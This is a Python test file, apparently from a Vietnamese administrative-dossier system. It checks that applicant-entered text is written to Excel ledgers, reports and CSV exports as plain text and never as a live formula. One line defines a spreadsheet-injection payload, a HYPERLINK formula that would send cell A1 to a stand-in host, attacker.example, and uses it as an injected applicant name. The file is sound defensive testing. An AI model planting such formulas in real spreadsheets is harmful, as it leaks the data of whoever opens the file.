"""Text typed by applicants or officials reaches every spreadsheet we write as text, never as a
live formula (issue #10, item 7): the Form 06 ledger, the processing report, the catalogue's CSV
and import-dossiers' errors file all go through ``motcua.catalogue.cells``."""

import csv
import dataclasses
import datetime as dt
import io

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from motcua.catalogue.cells import csv_text, csv_value
from motcua.catalogue.tabular import read_csv, write_csv
from motcua.catalogue.tests.test_tabular import make_catalogue
from motcua.dossiers import intake
from motcua.dossiers.ledger import FIRST_DATA_ROW, ledger_dossiers, ledger_xlsx
from motcua.dossiers.tests.factories import at, complete_intake, household_business_case
from motcua.reports.exports import processing_xlsx
from motcua.reports.processing import Counts, Report, Row
from motcua.testing import Cast

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def cells(workbook: bytes) -> list[tuple[object, str]]:
    ws = load_workbook(io.BytesIO(workbook)).active
    assert isinstance(ws, Worksheet)
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row]


def test_an_applicant_named_like_a_formula_is_text_in_the_ledger(cast: Cast) -> None:
    case = household_business_case(cast.agency)
    form = complete_intake(case)
    form = dataclasses.replace(
        form, applicant=dataclasses.replace(form.applicant, name=LINK, address="@SUM(1+1)")
    )
    intake.receive_new_dossier(
        form, agency=cast.agency, actor=cast.alice, now=at("2026-03-02T09:00")
    )
    start, end = dt.date(2026, 3, 1), dt.date(2026, 3, 31)
    rows = ledger_dossiers(cast.agency, case.version.field, start, end)
    workbook = ledger_xlsx(rows, title="Sổ", field_name="=1+1", start=start, end=end)
    written = cells(workbook)
    assert (LINK, "s") in written
    assert not [value for value, kind in written if kind == "f"]
    ws = load_workbook(io.BytesIO(workbook)).active
    assert ws is not None and ws.cell(FIRST_DATA_ROW, 4).value == LINK


def test_a_label_like_a_formula_is_text_in_the_processing_report() -> None:
    report = Report(dt.date(2026, 1, 1), dt.date(2026, 1, 31), "agency", [Row("X", LINK, Counts())])
    written = cells(processing_xlsx(report))
    assert (LINK, "s") in written
    assert not [value for value, kind in written if kind == "f"]


def test_csv_fields_that_start_a_formula_get_an_apostrophe() -> None:
    for text in ("=1+1", "+84912345678", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_text(text) == "'" + text
        assert csv_value(csv_text(text)) == text
    for value in ("Nguyễn Văn Bình", "", 12, None, "a=b"):
        assert csv_text(value) == value


def test_the_catalogue_csv_neutralises_formulas_and_reads_them_back() -> None:
    catalogue = make_catalogue()
    catalogue["procedures"][0]["name"] = LINK
    out = io.StringIO()
    write_csv(catalogue, out)
    fields = [f for row in csv.reader(io.StringIO(out.getvalue())) for f in row]
    assert "'" + LINK in fields and LINK not in fields
    assert read_csv(io.StringIO(out.getvalue()))["procedures"][0]["name"] == LINK
